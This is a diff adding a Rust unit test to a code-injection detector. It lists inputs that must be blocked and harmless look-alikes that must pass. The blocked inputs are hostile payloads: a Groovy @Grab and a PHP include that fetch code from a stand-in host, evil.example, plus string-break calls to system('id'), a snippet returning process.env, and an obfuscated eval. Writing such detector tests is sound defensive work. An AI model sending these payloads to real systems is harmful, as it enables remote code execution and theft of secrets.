@@ -271,3 +271,29 @@ fn types_loaded_by_name() {
     attack("getattr(__builtins__,'ev'+'al')('1')", "internal");
     assert!(!run("file_get_contents('a.txt');").1);
 }
+
+#[test]
+fn packages_includes_and_joined_calls() {
+    use crate::detectors::testing::{blocks, passes_at};
+    for text in [
+        "@GrabResolver(name='o', root='http://evil.example/')\n@Grab('p:m:1')\nimport Payload;",
+        "include 'http://evil.example/x.txt';",
+        "require_once(\"php://input\")",
+        "'.print(1).'",
+        "\".system('id').\"",
+        "(function(){return process.env})()",
+        "${base64Decoder:SGVsbG8=}",
+    ] {
+        blocks(Class::Code, text, "");
+    }
+    for text in [
+        "prices include 'http://a.example'",
+        "#include \"a.h\"",
+        "'.hidden(1)'",
+        "email @Grab (it) now",
+        "see @Grab(it) for a lift",
+        "${base64Decoder}",
+    ] {
+        passes_at(Class::Code, Place::Query, "q", text);
+    }
+}
